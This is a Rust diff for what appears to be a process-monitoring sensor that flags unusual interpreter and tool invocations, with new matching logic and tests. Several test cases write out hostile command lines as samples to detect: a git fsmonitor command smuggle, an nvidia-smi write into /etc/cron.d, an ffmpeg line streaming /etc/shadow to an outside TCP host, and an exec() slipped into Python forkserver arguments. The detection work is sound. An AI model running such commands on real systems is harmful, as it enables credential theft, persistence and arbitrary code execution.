@@ -42,6 +42,9 @@ impl Kind {
 /// mm/memfd.c: what the names of such files begin with.
 const MEMFD: &[u8] = b"memfd:";
 
+/// Letters of flags that change how Python and Perl run a script, and not what they run.
+const SCRIPT_FLAGS: &[u8] = b"BEIOPSTbdsuvw";
+
 /// A program as it was started.
 #[derive(Debug, Clone, Copy)]
 pub struct Started<'a> {
@@ -210,6 +213,22 @@ impl Programs {
         self.readers.is_match(path(base_name(name)))
     }
 
+    /// Is `exe` an interpreter that was started for a script on the reader list? As the kernel does it where a file begins
+    /// with `#!` (fs/binfmt_script.c): the script's path stands behind at most one flag. Who owns it is the caller's to
+    /// check.
+    pub fn is_reader_script(&self, exe: &[u8], argv: &[Bytes]) -> bool {
+        let is_flag = |argument: &&Bytes| {
+            let letters = argument.strip_prefix(b"-").unwrap_or_default();
+            !letters.is_empty() && letters.iter().all(|letter| SCRIPT_FLAGS.contains(letter))
+        };
+        let script = match argv.get(1) {
+            Some(first) if is_flag(&first) => argv.get(2),
+            first => first,
+        };
+        self.interpreters.is_match(path(base_name(exe)))
+            && script.is_some_and(|script| script.starts_with(b"/") && self.is_reader(script))
+    }
+
     /// Keys of the names of programs that open files for others, for the kernel's table.
     pub fn carriers(&self) -> Vec<(u64, u8)> {
         self.carriers.iter().map(|name| (sensor_abi::name::key_of_name(name.as_bytes()), 1)).collect()
@@ -267,25 +286,28 @@ fn argv_matches(pattern: &[String], arguments: &[Bytes]) -> bool {
 }
 
 /// `{n}` is a run of digits, `{path}` a run of path characters that begins with `/`, `{any}` a run of path characters
-/// without `..`. Everything else is itself.
+/// without `..`, `{literals}` Python literals that call nothing. Everything else is itself.
 fn argument_matches(pattern: &[u8], argument: &[u8]) -> bool {
     let Some(open) = pattern.iter().position(|byte| *byte == b'{') else { return pattern == argument };
     let Some(close) = pattern.iter().position(|byte| *byte == b'}') else { return pattern == argument };
     let (before, word, after) = (&pattern[..open], &pattern[open + 1..close], &pattern[close + 1..]);
     let Some(rest) = argument.strip_prefix(before) else { return false };
-    let is_path = |text: &[u8]| {
-        text.iter().all(|byte| byte.is_ascii_alphanumeric() || b"/._+-".contains(byte))
-            && !text.windows(2).any(|pair| pair == b"..")
+    let fits = |byte: &&u8| match word {
+        b"n" => byte.is_ascii_digit(),
+        b"path" | b"any" => byte.is_ascii_alphanumeric() || b"/._+-".contains(byte),
+        // Without a parenthesis nothing is called.
+        b"literals" => !byte.is_ascii_control() && !b"()\\".contains(byte),
+        _ => false,
     };
-    (1..=rest.len()).any(|length| {
+    let longest = rest.iter().take_while(fits).count();
+    (1..=longest).rev().any(|length| {
         let (text, tail) = rest.split_at(length);
-        let fits = match word {
-            b"n" => text.iter().all(u8::is_ascii_digit),
-            b"path" => text[0] == b'/' && is_path(text),
-            b"any" => is_path(text),
-            _ => false,
+        let whole = match word {
+            b"path" => text[0] == b'/' && !text.windows(2).any(|pair| pair == b".."),
+            b"any" => !text.windows(2).any(|pair| pair == b".."),
+            _ => true,
         };
-        fits && argument_matches(after, tail)
+        whole && argument_matches(after, tail)
     })
 }
 
@@ -397,6 +419,32 @@ mod tests {
                 &["ptxas", "--version"],
                 python,
             ),
+            (
+                python,
+                &[
+                    "python",
+                    "-c",
+                    "from multiprocessing.forkserver import main; main(10, 11, ['__main__'], **{'sys_path': ['/a b', '/c']})",
+                ],
+                python,
+            ),
+            (
+                python,
+                &[
+                    "python",
+                    "-m",
+                    "joblib.externals.loky.backend.popen_loky_posix",
+                    "--process-name",
+                    "LokyProcess-1",
+                    "--pipe",
+                    "14",
+                ],
+                python,
+            ),
+            ("/usr/bin/lscpu", &["lscpu", "--parse=core"], python),
+            ("/usr/bin/git", &["git", "rev-parse", "HEAD"], python),
+            ("/usr/bin/nvidia-smi", &["nvidia-smi", "--query-gpu=index,name", "--format=csv"], python),
+            ("/usr/bin/ffmpeg", &["ffmpeg", "-nostdin", "-i", "/srv/a.mp3", "-f", "s16le", "-"], python),
         ];
         for (exe, argv, parent) in cases {
             assert_eq!(kind_of(exe, argv, parent), Kind::Ordinary, "{exe} {argv:?}");
@@ -434,7 +482,16 @@ mod tests {
                 python,
                 Kind::Interpreter,
             ),
+            (
+                python,
+                &["python3", "-c", "from multiprocessing.forkserver import main; main(1, 2, [exec('1')], **{})"],
+                python,
+                Kind::Interpreter,
+            ),
             (python, &["python3", "-c", "import os"], python, Kind::Interpreter),
+            ("/usr/bin/git", &["git", "-c", "core.fsmonitor=/tmp/x", "status"], python, Kind::Unexpected),
+            ("/usr/bin/nvidia-smi", &["nvidia-smi", "-q", "-f", "/etc/cron.d/x"], python, Kind::Unexpected),
+            ("/usr/bin/ffmpeg", &["ffmpeg", "-i", "/etc/shadow", "tcp://203.0.113.7:1"], python, Kind::Unexpected),
             (python, &["python3", "-B", "-X", "dev", "-c", "import os"], python, Kind::Interpreter),
             (python, &["python3", "-B", "-X"], python, Kind::Interpreter),
             (
@@ -478,6 +535,18 @@ mod tests {
         for manager in ["containerd", "containerd-shim-runc-v2", "kubelet", "sshd", "systemd"] {
             assert!(programs.is_manager(manager.as_bytes()), "{manager}");
         }
+        let script = |exe: &str, argv: &[&str]| {
+            let argv: Vec<Bytes> = argv.iter().map(|text| text.as_bytes().to_vec()).collect();
+            programs.is_reader_script(exe.as_bytes(), &argv)
+        };
+        assert!(script("/usr/bin/python3.11", &["/usr/bin/python3", "/usr/bin/aws", "s3", "cp"]));
+        assert!(script("/usr/bin/perl", &["/usr/bin/perl", "-w", "/usr/bin/shasum", "x"]));
+        assert!(script("/usr/bin/python3.13", &["/usr/bin/python3", "-sP", "/usr/bin/borg"]));
+        assert!(!script("/usr/bin/python3.11", &["python3", "aws"]));
+        assert!(!script("/usr/bin/python3.11", &["python3", "-c", "/usr/bin/aws"]));
+        assert!(!script("/usr/bin/python3.11", &["python3", "-i", "/usr/bin/aws"]));
+        assert!(!script("/usr/bin/python3.11", &["python3", "/srv/train.py", "/usr/bin/aws"]));
+        assert!(!script("/usr/bin/dash", &["sh", "/usr/bin/aws"]));
         for other in ["python3", "sh", "cpx", "xcp", "torchrun"] {
             assert!(!programs.is_reader(other.as_bytes()) && !programs.is_manager(other.as_bytes()), "{other}");
         }
